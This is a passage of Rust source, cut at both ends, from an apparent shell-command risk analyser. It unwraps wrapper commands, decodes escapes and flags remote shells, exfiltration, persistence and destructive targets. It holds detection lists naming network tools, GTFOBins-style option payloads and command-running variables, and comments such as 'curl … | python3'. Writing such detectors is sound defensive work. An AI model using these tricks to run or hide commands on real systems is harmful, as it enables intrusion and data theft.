                    }
                }
            }
            for payload in option_payloads(&name, &words[1..]) {
                self.payload(Some(&payload), depth);
            }
            let args = &words[1..];
            let next: Option<Vec<Word>> = match name.as_str() {
                "sudo" | "doas" => Some(after_options(
                    args,
                    &[
                        "-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R",
                    ],
                )),
                "env" => Some(self.env_args(args)),
                "nice" => Some(after_options(args, &["-n"])),
                "ionice" => Some(after_options(args, &["-c", "-n", "-p", "-P", "-u"])),
                "nohup" | "builtin" | "unbuffer" | "caffeinate" | "setsid" | "exec" => {
                    Some(after_options(args, &["-a"]))
                }
                "command" => {
                    if args.iter().any(|a| a.text == "-v" || a.text == "-V") {
                        return words;
                    }
                    Some(after_options(args, &[]))
                }
                "time" => Some(after_options(args, &["-f", "-o"])),
                "stdbuf" => Some(after_options(args, &["-i", "-o", "-e"])),
                "timeout" => {
                    let rest = after_options(args, &["-s", "-k"]);
                    Some(rest.into_iter().skip(1).collect())
                }
                "taskset" => {
                    let rest = after_options(args, &[]);
                    Some(rest.into_iter().skip(1).collect())
                }
                "chroot" | "flock" => {
                    let rest = after_options(args, &["-w", "-E"]);
                    if name == "flock"
                        && let Some(i) = args.iter().position(|a| a.text == "-c")
                    {
                        self.payload(args.get(i + 1), depth);
                        return words;
                    }
                    Some(rest.into_iter().skip(1).collect())
                }
                "busybox" => Some(args.to_vec()),
                "pkexec" | "strace" | "ltrace" | "valgrind" | "torsocks" | "proxychains"
                | "proxychains4" | "firejail" | "unshare" | "nsenter" | "dbus-launch"
                | "ssh-agent" | "fakeroot" | "chronic" | "nocache" | "catchsegv" | "xvfb-run"
                | "systemd-run" | "daemonize" => Some(after_options(
                    args,
                    &[
                        "-o",
                        "-e",
                        "-p",
                        "-s",
                        "-u",
                        "-E",
                        "-t",
                        "-n",
                        "--unit",
                        "--property",
                    ],
                )),
                "screen" => Some(after_options(args, &["-S", "-c", "-L", "-Logfile"])),
                "tmux" => {
                    // `tmux new-session [opts] CMD`: the last word is a shell command.
                    if args.iter().any(|a| {
                        matches!(
                            a.text.as_str(),
                            "new-session"
                                | "new"
                                | "new-window"
                                | "neww"
                                | "split-window"
                                | "splitw"
                                | "respawn-pane"
                        )
                    }) {
                        self.payload(args.last().filter(|a| !a.text.starts_with('-')), depth);
                    }
                    return words;
                }
                "parallel" => {
                    let rest = after_options(args, &["-j", "-S", "--jobs"]);
                    let cut = rest
                        .iter()
                        .position(|w| w.text == ":::")
                        .unwrap_or(rest.len());
                    let mut cmd: Vec<Word> = rest[..cut].to_vec();
                    cmd.extend(rest.iter().skip(cut + 1).cloned());
                    Some(cmd)
                }
                // `at`/`batch` run the script on their stdin later; so does cron its table.
                "at" | "batch" => {
                    self.shell(&[], depth, stdin);
                    return words;
                }
                "crontab" => {
                    if args
                        .iter()
                        .all(|a| a.text == "-" || a.text.starts_with("-u"))
                        && let Stdin::Known(table) = stdin
                    {
                        for entry in table.lines().map(str::trim) {
                            let command = cron_command(entry);
                            if !command.is_empty() {
                                self.script(command, depth + 1, Stdin::Inherited);
                            }
                        }
                    }
                    return words;
                }
                "cd" | "pushd" => {
                    self.cwd = match args.iter().find(|a| !a.text.starts_with('-')) {
                        None => Some("~".into()),
                        Some(a) if a.dynamic => None,
                        Some(a) if a.text.starts_with('/') || a.text.starts_with('~') => {
                            Some(a.text.clone())
                        }
                        Some(a) => self
                            .cwd
                            .as_ref()
                            .map(|c| format!("{}/{}", c.trim_end_matches('/'), a.text)),
                    };
                    return words;
                }
                "xargs" => Some(xargs_command(args, stdin)),
                "watch" => {
                    let rest = after_options(args, &["-n", "-d", "-q", "-x"]);
                    let joined = rest
                        .iter()
                        .map(|w| w.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ");
                    let dynamic = rest.iter().any(|w| w.dynamic);
                    self.payload(
                        Some(&Word {
                            text: joined,
                            dynamic,
                            expanded: false,
                        }),
                        depth,
                    );
                    return words;
                }
                "su" | "runuser" | "script" => {
                    if let Some(i) = args
                        .iter()
                        .position(|a| a.text == "-c" || a.text == "--command")
                    {
                        self.payload(args.get(i + 1), depth);
                    }
                    return words;
                }
                "alias" => {
                    for definition in args {
                        if let Some((_, body)) = definition.text.split_once('=') {
                            self.payload(
                                Some(&Word {
                                    text: body.to_string(),
                                    ..definition.clone()
                                }),
                                depth,
                            );
                        }
                    }
                    return words;
                }
                "trap" => {
                    self.payload(args.iter().find(|a| !a.text.starts_with('-')), depth);
                    return words;
                }
                "eval" => {
                    let joined = args
                        .iter()
                        .map(|w| w.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ");
                    let dynamic = args.iter().any(|w| w.dynamic);
                    self.payload(
                        Some(&Word {
                            text: joined,
                            dynamic,
                            expanded: false,
                        }),
                        depth,
                    );
                    return words;
                }
                "source" | "." => {
                    if let Some(text) = args.first().and_then(|f| self.files.get(&f.text)).cloned()
                    {
                        self.script(&text, depth + 1, Stdin::Inherited);
                    }
                    if let Some(file) = args.first()
                        && (file.dynamic
                            || file.text.starts_with("<(")
                            || file.text.starts_with("/dev/stdin")
                            || file.text.starts_with("/dev/fd/")
                            || file.text.starts_with("/proc/self/fd/"))
                    {
                        match stdin {
                            Stdin::Known(text) if !file.dynamic => {
                                self.script(&text.clone(), depth + 1, Stdin::Inherited)
                            }
                            _ => self.reading.concern(COMPUTED_SCRIPT),
                        }
                    }
                    return words;
                }
                "find" => {
                    self.find(args, depth);
                    return words;
                }
                n if is_shell(n) => {
                    self.shell(args, depth, stdin);
                    return words;
                }
                _ if self.files.contains_key(&first_text) => {
                    let text = self.files.get(&first_text).cloned().unwrap_or_default();
                    self.script(&text, depth + 1, Stdin::Inherited);
                    return words;
                }
                n => {
                    if let Some(language) = interpreter(n) {
                        self.interpreter(language, args, depth, stdin);
                    } else {
                        self.destructive_target(n, args);
                    }
                    return words;
                }
            };
            match next {
                Some(next) if !next.is_empty() => words = next,
                _ => return words,
            }
        }
        words
    }

    /// `env [-i] [-u NAME] [-C DIR] [-S STRING] [NAME=VALUE]… COMMAND…`
    fn env_args(&mut self, args: &[Word]) -> Vec<Word> {
        let mut i = 0;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if t == "-u" || t == "-C" || t == "--unset" || t == "--chdir" {
                i += 2;
            } else if t == "-S" || t == "--split-string" {
                let mut out: Vec<Word> = args
                    .get(i + 1)
                    .map(|s| {
                        s.text
                            .split_whitespace()
                            .map(|p| Word {
                                text: p.to_string(),
                                ..s.clone()
                            })
                            .collect()
                    })
                    .unwrap_or_default();
                out.extend(args.iter().skip(i + 2).cloned());
                return out;
            } else if t.starts_with('-') || (t.contains('=') && !t.starts_with('=')) {
                i += 1;
            } else {
                break;
            }
        }
        args.get(i..).map(<[Word]>::to_vec).unwrap_or_default()
    }

    /// Shell code given as one word: read it, or report it when it is computed.
    fn payload(&mut self, word: Option<&Word>, depth: usize) {
        match word {
            Some(w) if w.dynamic => {
                self.reading.concern(COMPUTED_SCRIPT);
                // What is known of it is still read.
                self.script(&w.text, depth + 1, Stdin::Inherited);
            }
            Some(w) => self.script(&w.text, depth + 1, Stdin::Inherited),
            None => {}
        }
    }

    /// `sh`/`bash`/`zsh …`: `-c CODE`, a script file, or a script on stdin.
    fn shell(&mut self, args: &[Word], depth: usize, stdin: &Stdin) {
        let mut i = 0;
        let mut wants_code = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if t == "--" {
                i += 1;
                break;
            }
            if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
                if !t.starts_with("--") && t[1..].contains('c') {
                    wants_code = true;
                }
                if t == "-o" || t == "+o" || t == "-O" || t == "+O" || t == "--rcfile" {
                    i += 1;
                }
                i += 1;
                continue;
            }
            break;
        }
        let operand = args.get(i);
        if wants_code {
            self.payload(operand, depth);
            return;
        }
        match operand {
            Some(w) if w.text != "-" && w.text != "/dev/stdin" => {
                if w.dynamic || w.text.starts_with("<(") {
                    self.reading.concern(COMPUTED_SCRIPT);
                } else if let Some(text) = self.files.get(&w.text).cloned() {
                    self.script(&text, depth + 1, Stdin::Inherited);
                }
            }
            _ => match stdin {
                Stdin::Known(text) => self.script(&text.clone(), depth + 1, Stdin::Inherited),
                Stdin::Unknown => self.reading.concern(COMPUTED_SCRIPT),
                Stdin::Inherited => {}
            },
        }
    }

    /// `find … -exec CMD {} ;` runs CMD; `-delete` deletes what it finds.
    fn find(&mut self, args: &[Word], depth: usize) {
        let starts: Vec<&Word> = args
            .iter()
            .take_while(|a| !a.text.starts_with('-') && a.text != "(" && a.text != "!")
            .collect();
        let start = starts.first().map_or(".".to_string(), |w| w.text.clone());
        let outside =
            starts.is_empty() || starts.iter().any(|w| !anchored_inside(&w.text, w.dynamic));
        let mut i = 0;
        while let Some(a) = args.get(i) {
            match a.text.as_str() {
                "-exec" | "-execdir" | "-ok" | "-okdir" => {
                    let mut words = Vec::new();
                    i += 1;
                    while let Some(w) = args.get(i) {
                        if w.text == ";" || w.text == "+" {
                            break;
                        }
                        if w.text.contains("{}") {
                            words.push(Word::unknown(w.text.replace("{}", &format!("{start}/…"))));
                        } else {
                            words.push(w.clone());
                        }
                        i += 1;
                    }
                    let destroys = words.first().is_some_and(|w| {
                        matches!(
                            basename(&w.text),
                            "rm" | "shred"
                                | "unlink"
                                | "rmdir"
                                | "truncate"
                                | "chmod"
                                | "chown"
                                | "mv"
                        )
                    });
                    if outside && destroys {
                        self.reading.concern(RUNTIME_TARGET);
                    }
                    if !words.is_empty() && self.reading.commands.len() < MAX_COMMANDS {
                        let run = self.resolve(words.clone(), depth, &Stdin::Inherited);
                        self.reading.commands.push(SimpleCommand {
                            words,
                            run,
                            redirects: Vec::new(),
                            data_only: false,
                        });
                    }
                }
                "-delete" if outside => self.reading.concern(RUNTIME_TARGET),
                _ => {}
            }
            i += 1;
        }
    }

    /// `rm -r $X` and the like: the targets decide, and they are not known.
    fn destructive_target(&mut self, name: &str, args: &[Word]) {
        let recursive = |a: &Word| {
            let t = a.text.as_str();
            t == "--recursive"
                || (t.starts_with('-') && !t.starts_with("--") && t.contains(['r', 'R']))
        };
        let applies = match name {
            "rm" => args.iter().any(recursive),
            "shred" | "srm" | "wipe" => true,
            "chmod" | "chown" | "chgrp" => args
                .iter()
                .any(|a| a.text == "-R" || a.text == "--recursive"),
            _ => false,
        };
        if applies
            && args
                .iter()
                .any(|a| a.dynamic && !a.text.starts_with('-') && !anchored_inside(&a.text, true))
        {
            self.reading.concern(RUNTIME_TARGET);
        }
    }

    /// An interpreter one-liner: its code is kept for the rule engine, the shell commands it
    /// passes to `system` and friends are read, and risky library calls are reported.
    fn interpreter(&mut self, language: Language, args: &[Word], depth: usize, stdin: &Stdin) {
        let mut codes: Vec<&Word> = Vec::new();
        let flags: &[&str] = match language {
            Language::Python => &["c"],
            Language::Perl | Language::Ruby => &["e", "E"],
            Language::JavaScript => &["e", "p"],
            Language::Php => &["r"],
            Language::Awk => &[],
        };
        let mut i = 0;
        let mut script_file = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            let takes_code = match language {
                Language::JavaScript => {
                    matches!(t, "-e" | "-p" | "--eval" | "--print" | "-pe")
                }
                // A cluster of one-letter options ending in the code flag (`-e`, `-lne`,
                // `-Bc`), not an option with a value that happens to end so (`-MFoo=e`).
                _ => {
                    t.len() > 1
                        && t.len() <= 6
                        && t.starts_with('-')
                        && t[1..].chars().all(|c| c.is_ascii_alphabetic())
                        && flags.iter().any(|f| t.ends_with(f))
                }
            };
            if takes_code {
                if let Some(code) = args.get(i + 1) {
                    codes.push(code);
                }
                i += 2;
                continue;
            }
            if language == Language::Awk {
                if t == "-f" {
                    script_file = true;
                    break;
                }
                if matches!(t, "-F" | "-v") {
                    i += 2;
                    continue;
                }
                if t.starts_with('-') && t.len() > 1 {
                    i += 1;
                    continue;
                }
                codes.push(a);
                break;
            }
            if t == "-" {
                break;
            }
            if t.starts_with('-') {
                // `python -m module` and `-W arg` take one argument.
                if matches!(t, "-m" | "-W" | "-X" | "-I" | "-r" | "--require") {
                    script_file = t == "-m";
                    i += 2;
                    if script_file {
                        break;
                    }
                    continue;
                }
                i += 1;
                continue;
            }
            // `python3 <(curl …)`: the script itself is computed.
            if a.dynamic || t.starts_with("<(") {
                self.reading.concern(INTERPRETER_COMPUTED);
            }
            script_file = true;
            break;
        }
        let mut owned: Vec<Word> = Vec::new();
        if codes.is_empty()
            && !script_file
            && let Stdin::Known(text) = stdin
        {
            owned.push(Word::literal(text.clone()));
        }
        let all: Vec<Word> = codes.into_iter().cloned().chain(owned).collect();
        for code in all {
            if code.dynamic {
                self.reading.concern(INTERPRETER_COMPUTED);
            }
            self.code(language, &code.text, depth);
        }
        // Code piped in from something unknown (`curl … | python3`).
        if !script_file && *stdin == Stdin::Unknown {
            self.reading.concern(INTERPRETER_COMPUTED);
        }
    }

    /// Reads interpreter code: shell commands it runs, risky calls it makes.
    fn code(&mut self, language: Language, code: &str, depth: usize) {
        if depth > MAX_PAYLOAD_DEPTH || code.len() > MAX_INPUT_BYTES {
            self.reading.complete = false;
            return;
        }
        let snippet = Snippet {
            language,
            code: code.to_string(),
        };
        if !self.reading.snippets.contains(&snippet) {
            self.reading.snippets.push(snippet);
        }
        for call in RUN_CALL.find_iter(code) {
            let callee = call.as_str();
            let args = balanced_args(&code[call.end()..]);
            let evaluated = code_expression(args);
            // `eval` (and Python's `exec`) run code of the interpreter's own language.
            let runs_code = callee.starts_with("eval")
                || (language == Language::Python && callee.starts_with("exec"));
            if !evaluated.any_literal || evaluated.dynamic && evaluated.text.trim() == "$X" {
                self.reading.concern(INTERPRETER_COMPUTED);
                continue;
            }
            if runs_code {
                if evaluated.dynamic {
                    self.reading.concern(INTERPRETER_COMPUTED);
                }
                self.code(language, &evaluated.text, depth + 1);
            } else {
                self.script(&evaluated.text, depth + 1, Stdin::Inherited);
            }
        }
        for caps in BACKTICKS.captures_iter(code) {
            if matches!(language, Language::Perl | Language::Ruby | Language::Php)
                && let Some(m) = caps.get(1).or_else(|| caps.get(2)).or_else(|| caps.get(3))
            {
                let text = HOME_EXPR.replace_all(m.as_str(), "~");
                self.script(&text, depth + 1, Stdin::Inherited);
            }
        }
        if language == Language::Awk {
            for caps in AWK_PIPE.captures_iter(code) {
                if let Some(m) = caps.get(1).or_else(|| caps.get(2)) {
                    self.script(m.as_str(), depth + 1, Stdin::Inherited);
                }
            }
        }
        for call in DELETE_CALL.find_iter(code) {
            let args = balanced_args(&code[call.end()..]);
            if !relative_literal(args) {
                self.reading.concern(INTERPRETER_DELETE);
            }
        }
        if language == Language::Awk && code.contains("/inet/") {
            self.reading.concern(INTERPRETER_REMOTE_SHELL);
        }
        let network = NETWORK.is_match(code);
        if network && SECRET.is_match(code) {
            self.reading.concern(INTERPRETER_EXFILTRATION);
        }
        if network && PROCESS.is_match(code) {
            self.reading.concern(INTERPRETER_REMOTE_SHELL);
        }
        if STARTUP_FILE.is_match(code) && WRITES.is_match(code) {
            self.reading.concern(INTERPRETER_PERSISTENCE);
        }
    }
}

/// Commands whose arguments are text they print or search for, never code they run.
fn is_data_command(run: &[Word]) -> bool {
    let Some(name) = run.first().map(|w| w.text.as_str()) else {
        return false;
    };
    match name {
        "echo" | "printf" | "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "test" | "["
        | ":" | "true" | "false" => true,
        "git" => run
            .get(1)
            .is_some_and(|w| matches!(w.text.as_str(), "commit" | "tag" | "log" | "grep")),
        _ => false,
    }
}

/// A redirection that sends output nowhere a command or file would read it as code.
fn harmless_redirect(redirect: &str) -> bool {
    matches!(
        redirect,
        "2>&1" | ">&2" | "1>&2" | "> /dev/null" | "2> /dev/null" | "&> /dev/null" | ">/dev/null"
    )
}

/// The command of a crontab line: after `@reboot`-style specials or five time fields.
fn cron_command(entry: &str) -> &str {
    if entry.is_empty() || entry.starts_with('#') {
        return "";
    }
    let fields = if entry.starts_with('@') { 1 } else { 5 };
    let mut rest = entry;
    for _ in 0..fields {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        rest = &rest[end..];
    }
    // A line of variables (`SHELL=/bin/sh`) runs nothing.
    if !entry.starts_with('@') && !entry.starts_with(|c: char| c.is_ascii_digit() || c == '*') {
        return "";
    }
    rest.trim()
}

/// Programs a globbed command word is checked against, the dangerous first.
const KNOWN_PROGRAMS: &[&str] = &[
    "rm", "rmdir", "shred", "dd", "mkfs", "mv", "cp", "chmod", "chown", "kill", "killall",
    "shutdown", "reboot", "halt", "poweroff", "sh", "bash", "zsh", "dash", "curl", "wget", "nc",
    "ncat", "socat", "python", "python3", "perl", "ruby", "node", "php", "awk", "sudo", "su",
    "crontab", "tee", "cat", "base64", "ssh", "scp", "eval", "find", "xargs", "env",
];

/// The known program a glob such as `r?` or `r[m]` can name.
fn glob_program(pattern: &str) -> Option<&'static str> {
    let matcher = globset::GlobBuilder::new(pattern)
        .literal_separator(true)
        .build()
        .ok()?
        .compile_matcher();
    KNOWN_PROGRAMS.iter().copied().find(|p| matcher.is_match(p))
}

/// Programs whose relative targets are read from a known working folder.
const TARGETS_FROM_CWD: &[&str] = &[
    "rm", "shred", "srm", "wipe", "chmod", "chown", "chgrp", "find", "mv",
];

/// Environment variables whose value a program runs as a shell command.
const COMMAND_VARIABLES: &[&str] = &[
    "PAGER",
    "GIT_PAGER",
    "MANPAGER",
    "GIT_SSH_COMMAND",
    "GIT_EDITOR",
    "EDITOR",
    "VISUAL",
    "PROMPT_COMMAND",
    "LESSOPEN",
    "LESSCLOSE",
    "BROWSER",
    "SUDO_ASKPASS",
    "SSH_ASKPASS",
    "GIT_ASKPASS",
    "BASH_ENV",
    "ENV",
];

/// Shell commands carried by options (GTFOBins' favourites): `tar --to-command=…`,
/// `rsync -e …`, `ssh -o ProxyCommand=…`, `git -c core.pager=…`, `zip -TT …`, `vim -c '!…'`.
fn option_payloads(program: &str, args: &[Word]) -> Vec<Word> {
    static INLINE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(concat!(
            r"(?i)^(?:--to-command|--checkpoint-action=exec|--use-compress-program|--rsh",
            r"|--rsync-path|--info-script|--new-volume-script|--unzip-command|--pager",
            r"|proxycommand|localcommand|core\.(?:sshcommand|pager|editor|fsmonitor)",
            r"|(?:alias|credential|diff|merge|filter)\.[^=]*)=!?(.+)$",
        ))
        .expect("static regex")
    });
    let separate: &[&str] = match program {
        "tar" => &["-I"],
        "rsync" => &["-e"],
        "zip" => &["-TT"],
        "man" => &["-P"],
        "vim" | "vi" | "nvim" | "ex" | "view" => &["-c", "--cmd"],
        "ssh" | "scp" | "sftp" => &["-o"],
        "git" => &["-c"],
        _ => &[],
    };
    let mut out = Vec::new();
    let mut previous: Option<&str> = None;
    for a in args {
        let text = a.text.as_str();
        let candidate = if previous.is_some_and(|p| separate.contains(&p)) {
            INLINE
                .captures(text)
                .and_then(|c| c.get(1))
                .map(|m| m.as_str())
                .or(Some(text))
        } else {
            INLINE
                .captures(text)
                .and_then(|c| c.get(1))
                .map(|m| m.as_str())
        };
        if let Some(code) = candidate {
            let code = code.strip_prefix('!').unwrap_or(code);
            // `vim -c 'set nu'` is not a shell command; `vim -c '!rm …'` is.
            let is_vim = matches!(program, "vim" | "vi" | "nvim" | "ex" | "view");
            if !is_vim || text.trim_start_matches(':').starts_with('!') {
                out.push(Word {
                    text: code.to_string(),
                    ..a.clone()
                });
            }
        }
        previous = Some(text);
    }
    if matches!(program, "vim" | "vi" | "nvim" | "ex" | "view") {
        for a in args {
            if let Some(code) = a
                .text
                .strip_prefix("+")
                .and_then(|c| c.trim_start_matches(':').strip_prefix('!'))
            {
                out.push(Word {
                    text: code.to_string(),
                    ..a.clone()
                });
            }
        }
    }
    out
}

/// The bodies and the pipeline continuations the grammar hangs on a heredoc redirection.
fn heredoc_parts<'t>(
    redirect: Node<'t>,
    bodies: &mut Vec<(usize, usize)>,
    continuations: &mut Vec<Node<'t>>,
) {
    if redirect.kind() != "heredoc_redirect" {
        return;
    }
    let mut c = redirect.walk();
    for kid in redirect.named_children(&mut c) {
        match kid.kind() {
            "heredoc_start" | "heredoc_end" => {}
            "heredoc_body" => bodies.push((kid.start_byte(), kid.end_byte())),
            _ => continuations.push(kid),
        }
    }
}

/// `> notes.txt`: output saved to a plain file inside the working tree.
fn saved_inside(redirect: &str) -> bool {
    let Some(target) = redirect
        .strip_prefix(">>")
        .or_else(|| redirect.strip_prefix('>'))
        .map(str::trim)
    else {
        return false;
    };
    anchored_inside(target, false) && !target.contains(['$', '`']) && !target.starts_with(".git")
}

/// The words after a wrapper's own options (`opts_with_value` take the next word).
fn after_options(args: &[Word], opts_with_value: &[&str]) -> Vec<Word> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with('-') || t.len() == 1 {
            break;
        }
        if opts_with_value.contains(&t) {
            i += 2;
        } else {
            i += 1;
        }
    }
    args.get(i..).map(<[Word]>::to_vec).unwrap_or_default()
}

/// What `xargs [opts] CMD…` runs: CMD with the words of its stdin (unknown unless the
/// pipe's source is).
fn xargs_command(args: &[Word], stdin: &Stdin) -> Vec<Word> {
    let with_value = [
        "-n",
        "-P",
        "-L",
        "-s",
        "-d",
        "-E",
        "-a",
        "-I",
        "--delimiter",
        "--max-args",
        "--max-procs",
        "--arg-file",
        "--replace",
    ];
    let mut i = 0;
    let mut replace: Option<String> = None;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with('-') || t.len() == 1 {
            break;
        }
        if t == "-I" {
            replace = args.get(i + 1).map(|w| w.text.clone());
        } else if t == "-i" || t == "--replace" {
            replace = Some("{}".into());
        } else if let Some(r) = t.strip_prefix("-I") {
            replace = Some(r.to_string());
        }
        i += if with_value.contains(&t) { 2 } else { 1 };
    }
    let mut command: Vec<Word> = args.get(i..).map(<[Word]>::to_vec).unwrap_or_default();
    if command.is_empty() {
        command.push(Word::literal("echo"));
    }
    let input: Vec<Word> = match stdin {
        Stdin::Known(text) => text
            .split(|c: char| c.is_whitespace() || c == '\0')
            .filter(|w| !w.is_empty())
            .map(Word::literal)
            .collect(),
        _ => vec![Word::unknown("$STDIN")],
    };
    match replace {
        Some(r) if !r.is_empty() => {
            let with = input
                .iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            let dynamic = input.iter().any(|w| w.dynamic);
            command
                .into_iter()
                .map(|w| {
                    if w.text.contains(&r) {
                        Word {
                            text: w.text.replace(&r, &with),
                            dynamic: w.dynamic || dynamic,
                            expanded: true,
                        }
                    } else {
                        w
                    }
                })
                .collect()
        }
        _ => {
            command.extend(input);
            command
        }
    }
}

/// The output of `echo`/`printf`/`cat` when it can be known before running.
fn known_output(run: &[Word], stdin: &Stdin) -> Option<String> {
    let (first, args) = run.split_first()?;
    if args.iter().any(|w| w.dynamic) {
        return None;
    }
    match basename(&first.text) {
        "echo" => {
            let mut newline = true;
            let mut escapes = false;
            let mut rest = args;
            while let Some((flag, tail)) = rest.split_first() {
                let t = flag.text.as_str();
                if t.len() > 1 && t.starts_with('-') && t[1..].chars().all(|c| "neE".contains(c)) {
                    newline &= !t.contains('n');
                    escapes = t.contains('e');
                    rest = tail;
                } else {
                    break;
                }
            }
            let joined = rest
                .iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            let mut out = if escapes {
                backslash_escapes(&joined)
            } else {
                joined
            };
            if newline {
                out.push('\n');
            }
            Some(out)
        }
        "printf" => {
            let (format, rest) = args.split_first()?;
            Some(printf(&format.text, rest))
        }
        "cat" if args.is_empty() => match stdin {
            Stdin::Known(text) => Some(text.clone()),
            _ => None,
        },
        _ => None,
    }
}

/// `printf FORMAT ARGS…` for the conversions a disguise uses (`%s`, `%b`, `%c`, escapes).
fn printf(format: &str, args: &[Word]) -> String {
    let mut out = String::new();
    let mut args = args.iter();
    let chars: Vec<char> = format.chars().collect();
    let mut i = 0;
    loop {
        while i < chars.len() {
            let c = chars[i];
            if c == '%' && i + 1 < chars.len() {
                let mut j = i + 1;
                while j < chars.len() && "-+ #0123456789.".contains(chars[j]) {
                    j += 1;
                }
                let conv = chars.get(j).copied().unwrap_or('%');
                match conv {
                    '%' => out.push('%'),
                    's' | 'd' | 'i' | 'u' | 'x' | 'o' | 'c' => {
                        let arg = args.next().map_or("", |w| w.text.as_str());
                        if conv == 'c' {
                            out.extend(arg.chars().take(1));
                        } else {
                            out.push_str(arg);
                        }
                    }
                    'b' => out.push_str(&backslash_escapes(
                        args.next().map_or("", |w| w.text.as_str()),
                    )),
                    other => {
                        out.push('%');
                        out.push(other);
                    }
                }
                i = j + 1;
                continue;
            }
            if c == '\\' {
                let rest: String = chars[i..].iter().collect();
                let (decoded, used) = one_escape(&rest);
                out.push_str(&decoded);
                i += used.max(1);
                continue;
            }
            out.push(c);
            i += 1;
        }
        // printf reuses its format while arguments remain.
        if args.len() == 0 || !format.contains('%') || out.len() > MAX_INPUT_BYTES {
            break;
        }
        i = 0;
    }
    out
}

/// Decodes `\n`, `\t`, `\\`, `\xHH`, `\0NNN`, `\NNN`, `\uHHHH` … in `text`.
fn backslash_escapes(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(p) = rest.find('\\') {
        out.push_str(&rest[..p]);
        let (decoded, used) = one_escape(&rest[p..]);
        out.push_str(&decoded);
        rest = rest.get(p + used.max(1)..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// One backslash escape at the start of `s`: the text it stands for and the bytes used.
fn one_escape(s: &str) -> (String, usize) {
    let bytes = s.as_bytes();
    let Some(&c) = bytes.get(1) else {
        return ("\\".into(), 1);
    };
    let simple = |ch: char| (ch.to_string(), 2);
    match c {
        b'n' => simple('\n'),
        b't' => simple('\t'),
        b'r' => simple('\r'),
        b'a' => simple('\u{7}'),
        b'b' => simple('\u{8}'),
        b'e' | b'E' => simple('\u{1b}'),
        b'f' => simple('\u{c}'),
        b'v' => simple('\u{b}'),
        b'\\' => simple('\\'),
        b'\'' => simple('\''),
        b'"' => simple('"'),
        b'?' => simple('?'),
        b'x' => {
            let hex: String = s[2..]
                .chars()
                .take(2)
                .take_while(char::is_ascii_hexdigit)
                .collect();
            match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                Some(ch) => (ch.to_string(), 2 + hex.len()),
                None => ("\\x".into(), 2),
            }
        }
        b'u' | b'U' => {
            let max = if c == b'u' { 4 } else { 8 };
            let hex: String = s[2..]
                .chars()
                .take(max)
                .take_while(char::is_ascii_hexdigit)
                .collect();
            match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                Some(ch) => (ch.to_string(), 2 + hex.len()),
                None => (s[..2].to_string(), 2),
            }
        }
        b'0'..=b'7' => {
            let start = if c == b'0' { 2 } else { 1 };
            let oct: String = s[start..]
                .chars()
                .take(3)
                .take_while(|d| ('0'..='7').contains(d))
                .collect();
            match u32::from_str_radix(&oct, 8).ok().and_then(char::from_u32) {
                Some(ch) => (ch.to_string(), start + oct.len()),
                None => ("\0".into(), start),
            }
        }
        b'c' => {
            let ch = bytes.get(2).map_or(0, |b| u32::from(*b & 0x1f));
            let used = 2 + s[2..].chars().next().map_or(0, char::len_utf8);
            (char::from_u32(ch).unwrap_or('\0').to_string(), used)
        }
        _ => {
            let ch = s[1..].chars().next().unwrap_or('\\');
            (format!("\\{ch}"), 1 + ch.len_utf8())
        }
    }
}

/// `$'…'`: the ANSI-C escapes bash decodes.
fn ansi_c(raw: &str) -> String {
    let inner = raw
        .strip_prefix("$'")
        .and_then(|s| s.strip_suffix('\''))
        .unwrap_or(raw);
    backslash_escapes(inner)
}

/// An unquoted word: `\X` is X, a backslash-newline is nothing.
fn unescape_word(raw: &str) -> String {
    // `~user` is that user's home: a home all the same.
    if let Some(rest) = raw.strip_prefix('~') {
        let name_end = rest.find('/').unwrap_or(rest.len());
        let name = &rest[..name_end];
        if !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            && !name.starts_with('-')
        {
            return unescape_word(&format!("~{}", &rest[name_end..]));
        }
    }
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes a backslash only escapes `$`, `` ` ``, `"`, `\` and a newline.
fn unescape_quoted(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\'
            && let Some(&n) = chars.peek()
            && matches!(n, '$' | '`' | '"' | '\\' | '\n')
        {
            chars.next();
            if n != '\n' {
                out.push(n);
            }
            continue;
        }
        out.push(c);
    }
    out
}

fn strip_quotes(raw: &str, quote: char) -> &str {
    raw.strip_prefix(quote)
        .and_then(|s| s.strip_suffix(quote))
        .unwrap_or(raw)
}

/// `pre{a,b}post` → `prea post`, `prebpost`, for simple (unnested, unquoted) groups.
fn brace_expand(word: &str) -> Vec<String> {
    let mut out = vec![word.to_string()];
    for _ in 0..4 {
        let mut next = Vec::new();
        let mut changed = false;
        for w in &out {
            match one_brace(w) {
                Some(parts) if next.len() + parts.len() <= MAX_EXPANDED_WORDS => {
                    changed = true;
                    next.extend(parts);
                }
                _ => next.push(w.clone()),
            }
        }
        out = next;
        if !changed {
            break;
        }
    }
    out
}

fn one_brace(word: &str) -> Option<Vec<String>> {
    let open = word.find('{')?;
    let close = open + word[open..].find('}')?;
    let inner = &word[open + 1..close];
